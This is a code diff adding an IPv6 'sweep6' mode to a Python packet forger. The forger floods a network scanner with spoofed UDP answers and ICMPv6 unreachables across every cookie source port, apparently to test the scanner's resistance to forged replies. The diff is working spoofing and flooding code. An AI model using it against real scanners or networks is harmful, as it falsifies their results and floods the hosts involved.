@@ -2,13 +2,15 @@
 
     python forger.py flood IFACE DST_MAC SCANNER_ADDR NET_START N_HOSTS RATE SECONDS KINDS TCP_PORTS UDP_PORTS
     python forger.py sweep IFACE DST_MAC SCANNER_ADDR TARGET UDP_PORTS
+    python forger.py sweep6 IFACE DST_MAC SCANNER_ADDR6 TARGET6 UDP_PORTS
 
 flood: random replies at RATE packets/s for SECONDS, of the KINDS given (comma-separated: tcp =
 SYN-ACKs and RSTs, udp = UDP answers, quote = ICMP port/admin unreachables quoting a UDP or TCP
 probe, icmp = echo and timestamp replies), claiming to come from the prefix's hosts and scanned
 ports, to random source ports of the scanner's cookie range (32768-65535), every cookie field
 random. sweep: the targeted attack on one host: for each UDP port, a UDP answer to every one of
-the 32768 cookie source ports and an ICMP port unreachable quoting each (the IP id random).
+the 32768 cookie source ports and an ICMP port unreachable quoting each (the IP id random;
+sweep6: the same over IPv6, the quoted flow label random).
 Prints the number of frames sent. Frames are built with struct: the point is the rate."""
 import random
 import socket
@@ -81,6 +83,29 @@ class Forger:
         return ipv4(host, self.scanner, 1, icmp, self.rng.getrandbits(16))
 
 
+def ipv6(src: bytes, dst: bytes, nh: int, payload: bytes, flow: int = 0) -> bytes:
+    return struct.pack("!IHBB16s16s", 0x60000000 | flow, len(payload), nh, 57, src, dst) + payload
+
+
+def icmp6_sum(src: bytes, dst: bytes, icmp: bytes) -> bytes:
+    pseudo = src + dst + struct.pack("!IxxxB", len(icmp), 58)
+    return icmp[:2] + struct.pack("!H", csum(pseudo + icmp)) + icmp[4:]
+
+
+def sweep6(f, scanner6, host6, udp_ports):
+    f.eth = f.eth[:12] + b"\x86\xdd"
+    rng = f.rng
+    for port in udp_ports:
+        for sport in range(32768, 65536):
+            payload = rng.randbytes(rng.choice((0, 12, 30)))
+            dgram = struct.pack("!HHHH", port, sport, 8 + len(payload), rng.getrandbits(16)) + payload
+            f.send(ipv6(host6, scanner6, 17, dgram))
+            quoted = ipv6(scanner6, host6, 17, struct.pack("!HHHH", sport, port, rng.choice((8, 25, 56)),
+                                                           rng.getrandbits(16)), rng.getrandbits(20))
+            icmp = icmp6_sum(host6, scanner6, struct.pack("!BBHI", 1, 4, 0, 0) + quoted)
+            f.send(ipv6(host6, scanner6, 58, icmp))
+
+
 def flood(f, start, n_hosts, rate, seconds, kinds, tcp_ports, udp_ports):
     makers = []
     for kind in kinds:
@@ -115,6 +140,12 @@ def sweep(f, host, udp_ports):
 
 def main(argv):
     mode, iface, dst_mac, scanner = argv[:4]
+    if mode == "sweep6":
+        f = Forger(iface, dst_mac, 0, seed=None)
+        sweep6(f, socket.inet_pton(socket.AF_INET6, scanner), socket.inet_pton(socket.AF_INET6, argv[4]),
+               [int(p) for p in argv[5].split(",")])
+        print(f.sent)
+        return
     f = Forger(iface, dst_mac, int.from_bytes(socket.inet_aton(scanner), "big"), seed=None)
     ports = lambda text: [int(p) for p in text.split(",") if p]
     if mode == "flood":
